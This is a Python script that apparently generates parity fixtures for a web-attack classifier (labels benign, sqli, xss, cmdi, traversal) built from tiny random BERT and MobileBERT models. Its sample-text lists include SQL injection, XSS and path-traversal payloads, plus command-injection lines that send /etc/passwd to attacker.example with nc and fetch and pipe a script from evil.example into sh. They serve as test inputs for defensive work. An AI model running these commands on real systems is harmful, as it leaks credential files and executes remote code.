#!/usr/bin/env python3
"""Generate the inference-engine parity fixtures (run where torch + transformers exist).

Builds small, randomly initialised BertForSequenceClassification and
MobileBertForSequenceClassification models with fixed seeds, a small WordPiece
vocabulary trained with the `tokenizers` library from the sample text below,
and writes each model as a wafer model directory:

    OUT/<name>/config.json  model.safetensors  vocab.txt  wafer.json  expected.jsonl

expected.jsonl holds one object per input text: {"text", "ids", "logits"}; ids
come from Hugging Face's fast BERT tokenizer (truncation to max_len), logits
from the model in float64 (the reference; our float32 engine is compared to it
with a relative tolerance). Nothing is downloaded.

    python3 train/tools/gen_parity_fixtures.py tests/fixtures/parity
"""
import json
import os
import sys

import torch
from safetensors.torch import save_file

MAX_LEN = 128
LABELS = ["benign", "sqli", "xss", "cmdi", "traversal"]

CORPUS = """
The quick brown fox jumps over the lazy dog. Search results for shoes, socks and shirts.
GET /index.html HTTP/1.1 Host: example.com User-Agent: Mozilla/5.0 (X11; Linux x86_64)
SELECT name, email FROM users WHERE id = 42 ORDER BY name LIMIT 10 UNION ALL SELECT password
' OR '1'='1' -- admin'-- 1; DROP TABLE users; waitfor delay '0:0:5' sleep(5) benchmark(1000000,md5(1))
<script>alert(document.cookie)</script> <img src=x onerror=alert(1)> javascript:alert(1) <svg onload=confirm(1)>
../../../../etc/passwd ..%2f..%2f..%2fetc%2fshadow ....//....//windows/win.ini /proc/self/environ
; cat /etc/passwd | nc attacker.example 4444 && wget http://evil.example/x.sh -O- | sh `id` $(whoami)
The weather today is sunny with a light breeze. Please update my shipping address to 221B Baker Street.
Café crème, naïve résumé, Ångström, Straße, 中文字符, 日本語のテキスト, emoji are not in the vocab.
user_id=1234&sort=price&order=asc&page=2&q=running+shoes&lang=en-US&currency=EUR
{"query": "mutation { login(user: \\"bob\\", pass: \\"secret\\") }", "variables": {}}
product reviews, customer support, order history, account settings, privacy policy, terms of service
""".strip().splitlines()

TEXTS = [
    "hello world",
    "",
    "a",
    "GET /index.html",
    "' OR '1'='1' --",
    "admin'-- ",
    "1; DROP TABLE users",
    "1 UNION ALL SELECT username, password FROM users--",
    "id=1' AND SLEEP(5) AND '1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<svg/onload=confirm(1)>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "....//....//windows/win.ini",
    "; cat /etc/passwd | nc attacker.example 4444",
    "`id` && $(whoami) || wget http://evil.example/x.sh -O- | sh",
    "Search results for running shoes in size 42",
    "Please update my shipping address to 221B Baker Street, London.",
    "user_id=1234&sort=price&order=asc&page=2&q=running+shoes",
    "Café crème, naïve résumé, Ångström, Straße",
    "中文字符 and 日本語 mixed with English words",
    "tab\there, newline\nthere, and a control \x07 char",
    "UPPER lower MiXeD CaSe WoRdS",
    '{"query": "mutation { login(user: \\"bob\\") }"}',
    "The quick brown fox jumps over the lazy dog. " * 3,
    "product reviews, customer support, order history, account settings, privacy policy, terms of service " * 2,
    "SELECT name, email FROM users WHERE id = 42 ORDER BY name LIMIT 10 " * 4,
    "<script>alert(1)</script> " * 12,
    "The weather today is sunny with a light breeze. " * 20,  # truncated to MAX_LEN
    "x" * 300,  # one long word -> [UNK] (max_input_chars_per_word)
]


def build_vocab(path_dir):
    from tokenizers import BertWordPieceTokenizer

    tok = BertWordPieceTokenizer(lowercase=True)
    tok.train_from_iterator(CORPUS * 4 + TEXTS, vocab_size=700, min_frequency=1,
                            special_tokens=["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"])
    os.makedirs(path_dir, exist_ok=True)
    tok.save_model(path_dir)
    with open(os.path.join(path_dir, "vocab.txt"), encoding="utf-8") as f:
        return [line.rstrip("\n") for line in f]


def hf_tokenize(model_dir, texts):
    """Ids from transformers' fast BERT tokenizer; cross-checked with the tokenizers library."""
    from tokenizers import BertWordPieceTokenizer

    vocab = os.path.join(model_dir, "vocab.txt")
    raw = BertWordPieceTokenizer(vocab, lowercase=True)
    raw.enable_truncation(MAX_LEN)
    ref = [raw.encode(t).ids for t in texts]
    used = "tokenizers.BertWordPieceTokenizer"
    try:
        from transformers import BertTokenizerFast as Tok
    except ImportError:
        from transformers import BertTokenizer as Tok
    vocab_map = {}
    with open(vocab, encoding="utf-8") as f:
        for i, line in enumerate(f):
            vocab_map.setdefault(line.rstrip("\n"), i)
    # transformers 4.x takes vocab_file=, 5.x takes vocab= (a dict) or a directory.
    makers = [("from_pretrained", lambda: Tok.from_pretrained(model_dir, do_lower_case=True)),
              ("vocab", lambda: Tok(vocab=vocab_map, do_lower_case=True)),
              ("vocab_file", lambda: Tok(vocab_file=vocab, do_lower_case=True))]
    for how, make in makers:
        try:
            tk = make()
            ids = [list(tk(t, truncation=True, max_length=MAX_LEN)["input_ids"]) for t in texts]
        except Exception as e:
            print("transformers %s(%s) failed: %r" % (Tok.__name__, how, e), file=sys.stderr)
            continue
        if ids == ref:
            used = "transformers.%s(%s)" % (Tok.__name__, how)
            break
        bad = [(t, a, b) for t, a, b in zip(texts, ids, ref) if a != b]
        print("transformers %s(%s) disagrees on %d texts, first: %r" % (Tok.__name__, how, len(bad), bad[0]),
              file=sys.stderr)
    print("token ids from", used)
    return ref, used


def perturb(model, seed):
    """Move norm weights/biases away from 1/0 and give biases values, so that every parameter matters."""
    g = torch.Generator().manual_seed(seed)
    with torch.no_grad():
        for name, p in model.named_parameters():
            if "LayerNorm" in name or name.endswith("norm.weight"):
                if name.endswith("weight"):
                    p.copy_(1.0 + 0.2 * torch.randn(p.shape, generator=g))
                else:
                    p.copy_(0.1 * torch.randn(p.shape, generator=g))
            elif name.endswith("bias"):
                p.copy_(0.05 * torch.randn(p.shape, generator=g))


def save_model_dir(out, name, model, vocab_lines, texts, ids, tok_used, dtype=torch.float32):
    d = os.path.join(out, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "vocab.txt"), "w", encoding="utf-8") as f:
        f.write("\n".join(vocab_lines) + "\n")
    model.config.to_json_file(os.path.join(d, "config.json"), use_diff=False)
    wafer = {
        "name": "parity-" + name,
        "labels": LABELS[: model.config.num_labels],
        "thresholds": [0.5] * model.config.num_labels,
        "max_len": MAX_LEN,
        "tokenizer": {"kind": "wordpiece", "lowercase": True},
        "units": [],
        "text_format": "wafer-unit-v1",
    }
    with open(os.path.join(d, "wafer.json"), "w") as f:
        json.dump(wafer, f, indent=2)
        f.write("\n")
    # Weights as stored (maybe F16/BF16); the reference runs on exactly those values in float64.
    sd = {k: v.detach().to(dtype).contiguous() for k, v in model.state_dict().items() if v.is_floating_point()}
    save_file(sd, os.path.join(d, "model.safetensors"))
    ref = model.to(torch.float64)
    with torch.no_grad():
        for k, v in ref.state_dict().items():
            if k in sd:
                v.copy_(sd[k].to(torch.float64))
    ref.eval()
    with open(os.path.join(d, "expected.jsonl"), "w", encoding="utf-8") as f:
        for t, i in zip(texts, ids):
            with torch.no_grad():
                logits = ref(input_ids=torch.tensor([i], dtype=torch.long)).logits[0]
            f.write(json.dumps({"text": t, "ids": i, "logits": [float(x) for x in logits.tolist()],
                                "tokenizer": tok_used}, ensure_ascii=False) + "\n")
    print(name, "params", sum(p.numel() for p in model.parameters()), "dtype", dtype)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "tests/fixtures/parity"
    from transformers import BertConfig, BertForSequenceClassification, MobileBertConfig, \
        MobileBertForSequenceClassification

    vdir = os.path.join(out, ".vocab")
    vocab = build_vocab(vdir)
    ids, tok_used = hf_tokenize(vdir, TEXTS)
    id2label = {i: l for i, l in enumerate(LABELS)}
    common = dict(vocab_size=len(vocab), max_position_embeddings=512, type_vocab_size=2,
                  id2label=id2label, label2id={l: i for i, l in id2label.items()},
                  initializer_range=0.05, pad_token_id=0)

    torch.manual_seed(1)
    cfg = BertConfig(hidden_size=64, num_hidden_layers=2, num_attention_heads=4, intermediate_size=128,
                     hidden_act="gelu", layer_norm_eps=1e-12, **common)
    m = BertForSequenceClassification(cfg)
    perturb(m, 11)
    save_model_dir(out, "bert_tiny", m, vocab, TEXTS, ids, tok_used)

    torch.manual_seed(2)
    cfg = BertConfig(hidden_size=48, num_hidden_layers=1, num_attention_heads=3, intermediate_size=96,
                     hidden_act="gelu_new", layer_norm_eps=1e-6, **common)
    m = BertForSequenceClassification(cfg)
    perturb(m, 12)
    save_model_dir(out, "bert_gelu_new_f16", m, vocab, TEXTS, ids, tok_used, dtype=torch.float16)

    # The seed model's structure at small size: NoNorm, 4 FFNs, shared q/k bottleneck, trigram, ReLU.
    torch.manual_seed(3)
    cfg = MobileBertConfig(hidden_size=64, embedding_size=32, intra_bottleneck_size=32,
                           num_hidden_layers=3, num_attention_heads=4, intermediate_size=64,
                           num_feedforward_networks=4, normalization_type="no_norm", use_bottleneck=True,
                           key_query_shared_bottleneck=True, use_bottleneck_attention=False,
                           trigram_input=True, hidden_act="relu", classifier_activation=True, **common)
    m = MobileBertForSequenceClassification(cfg)
    perturb(m, 13)
    save_model_dir(out, "mobilebert_tiny", m, vocab, TEXTS, ids, tok_used)

    # The other branches: LayerNorm, bottleneck attention, no trigram (embedding_size != hidden), GELU,
    # no classifier activation, 2 FFNs, weights stored as BF16.
    torch.manual_seed(4)
    cfg = MobileBertConfig(hidden_size=64, embedding_size=48, intra_bottleneck_size=32,
                           num_hidden_layers=2, num_attention_heads=2, intermediate_size=80,
                           num_feedforward_networks=2, normalization_type="layer_norm", use_bottleneck=True,
                           key_query_shared_bottleneck=False, use_bottleneck_attention=True,
                           trigram_input=False, hidden_act="gelu", classifier_activation=False,
                           layer_norm_eps=1e-12, **common)
    m = MobileBertForSequenceClassification(cfg)
    perturb(m, 14)
    save_model_dir(out, "mobilebert_ln_bf16", m, vocab, TEXTS, ids, tok_used, dtype=torch.bfloat16)

    for f in os.listdir(vdir):
        os.remove(os.path.join(vdir, f))
    os.rmdir(vdir)


if __name__ == "__main__":
    main()
